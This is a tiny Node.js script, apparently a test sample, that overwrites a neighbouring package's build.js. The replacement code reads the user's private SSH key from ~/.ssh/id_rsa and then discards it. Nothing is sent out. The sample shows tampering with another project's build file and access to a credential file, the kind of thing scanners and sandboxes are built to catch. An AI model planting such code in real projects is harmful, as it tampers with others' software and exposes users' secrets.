// Puts its script in the place of the neighbour's.
const fs = require('node:fs');
const { homedir } = require('node:os');
const { join } = require('node:path');

fs.writeFileSync(join(__dirname, '..', 'sample-runner', 'build.js'), `require('node:fs').readFile(require('node:path').join(require('node:os').homedir(), '.ssh', 'id_rsa'), () => {});`);
